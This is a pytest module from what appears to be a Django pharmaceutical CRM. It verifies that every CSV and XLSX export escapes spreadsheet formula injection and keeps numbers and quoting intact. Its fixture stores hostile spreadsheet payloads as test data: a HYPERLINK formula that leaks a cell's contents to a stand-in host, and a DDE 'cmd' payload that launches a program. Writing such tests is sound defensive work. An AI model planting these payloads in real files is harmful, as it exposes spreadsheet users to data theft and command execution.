"""RELIABILITY check 18: CSV / formula injection in every export.

Pass criterion: text starting with a spreadsheet trigger (``= + - @ \\t \\r \\0``) in names and notes comes out of
every CSV export (each list page with ``export_columns``, found from the URL conf, plus the report exports of
grading, service analysis, surveys and content pushes) and of the XLSX writer with a leading ``'``: parsed back
with ``csv`` / openpyxl, 0 text cells start with a trigger; numbers stay numbers (``-12.5`` is not escaped);
RFC 4180 quoting round-trips exactly (embedded quotes, commas, newlines).

Guards: OWASP ASVS 5.0 1.2.10 (formula injection), CWE-1236.
"""

from __future__ import annotations

import csv
import decimal
import io
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import login
from pharmacrm.core import exports
from pharmacrm.core.exports import cell_value, stream_csv
from pharmacrm.core.generic import ScopedListView
from pharmacrm.core.tabular import write_xlsx

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
#: the report exports that are functions rather than list pages: url → who may export
REPORT_EXPORTS = ("/grading/?format=csv&table=classes", "/grading/?format=csv&table=regions",
                  "/grading/?format=csv&table=movements")

poisoned_text = st.tuples(st.sampled_from(TRIGGERS), st.text(max_size=30)).map("".join)


def parse_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def is_number(text: str) -> bool:
    try:
        decimal.Decimal(text)
    except decimal.InvalidOperation:
        return False
    return True


def injected(cell: str) -> bool:
    return cell.startswith(TRIGGERS) and not is_number(cell)


@given(values=st.lists(poisoned_text | st.text(max_size=30), min_size=1, max_size=6))
@settings(max_examples=200, deadline=None)
def test_csv_cells_are_neutralised_and_round_trip(values: list[str]) -> None:
    row = [cell_value(value, lambda v: v) for value in values]
    _header, parsed = parse_csv("".join(stream_csv(["h"] * len(row), [row])))
    assert not [cell for cell in parsed if injected(cell)]
    for original, cell in zip(values, parsed, strict=True):  # exact round trip, apostrophe aside
        assert cell == (("'" + original) if original.startswith(TRIGGERS) else original)


@given(number=st.decimals(allow_nan=False, allow_infinity=False, places=2, min_value=-10**9, max_value=10**9)
       | st.integers(min_value=-10**12, max_value=10**12))
def test_numbers_are_exported_as_numbers(number: Any) -> None:
    parsed = parse_csv("".join(stream_csv(["n"], [[cell_value(number, lambda v: v)]])))[1][0]
    assert parsed == str(number)
    assert decimal.Decimal(parsed) == decimal.Decimal(number)


@given(values=st.lists(poisoned_text | st.text(max_size=30), min_size=1, max_size=6))
@settings(max_examples=50, deadline=None)
def test_xlsx_cells_are_neutralised(values: list[str]) -> None:
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx(["h"] * len(values), [values])), read_only=True)
    cells = [str(cell.value or "") for row in book.worksheets[0].iter_rows(min_row=2) for cell in row]
    assert not [cell for cell in cells if injected(cell)]


def exporting_list_urls() -> list[str]:
    """Every list page with an export, from the URL conf (a new exporting list is checked automatically)."""
    found: list[str] = []

    def walk(patterns: list[Any], prefix: str) -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, prefix + str(pattern.pattern))
            elif isinstance(pattern, URLPattern):
                view = getattr(pattern.callback, "view_class", None)
                if (view and issubclass(view, ScopedListView) and view.export_columns
                        and "<" not in str(pattern.pattern)):
                    found.append("/" + prefix + str(pattern.pattern))

    walk(get_resolver().url_patterns, "")
    return sorted(set(found))


def stored_triggers() -> tuple[str, ...]:
    """PostgreSQL cannot store NUL in text at all (forms and the API refuse it as bad input before it gets there);
    SQLite stores it, so there the exports must neutralise it too."""
    from django.db import connection

    return TRIGGERS if connection.vendor == "sqlite" else tuple(t for t in TRIGGERS if t != "\0")


@pytest.fixture
def poisoned(org: dict[str, Any]) -> dict[str, Any]:
    """Names and notes starting with every trigger, on the records the exports list."""
    from pharmacrm.customers import services as customers
    from pharmacrm.org.models import Division

    for index, trigger in enumerate(stored_triggers()):
        institution = customers.create_institution(
            actor=org["steward"], name=f"{trigger}HYPERLINK(\"http://x.example/?\"&A1,\"医院{index}\")",
            kind="clinic", status="active", division=Division.objects.get(pk="310104"), owner=org["rep_east"])
        customers.create_contact(actor=org["steward"], institution=institution, name=f"{trigger}cmd|' /C calc'!A0")
    return org


@pytest.mark.django_db
def test_every_export_neutralises_formulas(poisoned: dict[str, Any]) -> None:
    urls = exporting_list_urls()
    assert "/customers/institutions/" in urls
    client = login(Client(), poisoned["admin"])
    failures, rows_seen = [], 0
    for url in [f"{u}?format=csv" for u in urls] + list(REPORT_EXPORTS):
        response = client.get(url)
        if response.status_code == 403:
            continue
        assert response.status_code == 200, (url, response.status_code)
        rows = parse_csv(b"".join(response.streaming_content).decode())
        rows_seen += len(rows) - 1
        failures += [f"{url}: {cell!r}" for row in rows[1:] for cell in row if injected(cell)]
    assert not failures, "formula cells in exports:\n" + "\n".join(failures)
    assert rows_seen >= len(stored_triggers()) * 2  # the poisoned institutions and contacts were exported


def test_the_check_notices_unescaped_cells(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exports, "safe_cell", lambda value: value)
    rows = parse_csv("".join(stream_csv(["h"], [[cell_value("=1+2", lambda v: v)]])))
    assert [cell for row in rows[1:] for cell in row if injected(cell)] == ["=1+2"]
